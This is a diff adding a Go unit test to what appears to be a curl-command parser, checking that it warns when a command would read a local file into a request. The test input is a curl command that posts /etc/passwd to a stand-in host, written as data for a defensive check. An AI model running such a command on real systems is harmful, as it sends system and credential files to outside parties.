@@ -146,6 +146,15 @@ func TestCurlTellsAFileThatCannotBeRead(t *testing.T) {
 	}
 }
 
+// A command may come from somebody else, and name a file that is not meant to leave.
+func TestCurlTellsAFileThatWasRead(t *testing.T) {
+	read := func(string) ([]byte, error) { return []byte("root:x:0:0"), nil }
+	c, remarks, err := Curl([]byte(`curl https://x.test --data-urlencode n@/etc/passwd`), Option{ReadFile: read})
+	if err != nil || string(c.Body) != "n=root%3Ax%3A0%3A0" || !strings.Contains(joined(remarks), `put 10 bytes of the file "/etc/passwd" into the request`) {
+		t.Errorf("%q %q %v", c.Body, remarks, err)
+	}
+}
+
 func FuzzCurl(f *testing.F) {
 	commands, err := os.ReadFile("testdata/generate/commands.txt")
 	if err != nil {
